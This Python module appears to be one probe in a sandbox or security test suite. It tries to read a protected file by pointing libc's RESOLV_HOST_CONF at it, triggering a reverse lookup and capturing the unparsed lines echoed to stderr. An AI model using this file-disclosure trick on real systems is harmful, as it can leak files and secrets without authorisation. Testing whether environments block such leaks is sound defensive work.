# class: handler
# rule: read_handler
# success: libc reads the handler as a file of its resolver's settings, and prints each line that it
#   does not understand
# proof: read
# when: call
import os
import socket

from attack import HANDLER, attempt


@attempt
def read():
    os.environ["RESOLV_HOST_CONF"] = HANDLER
    reader, writer = os.pipe()
    kept = os.dup(2)
    os.dup2(writer, 2)
    try:
        socket.gethostbyaddr("127.0.0.1")
    finally:
        os.dup2(kept, 2)
    os.close(writer)
    return os.read(reader, 4096)
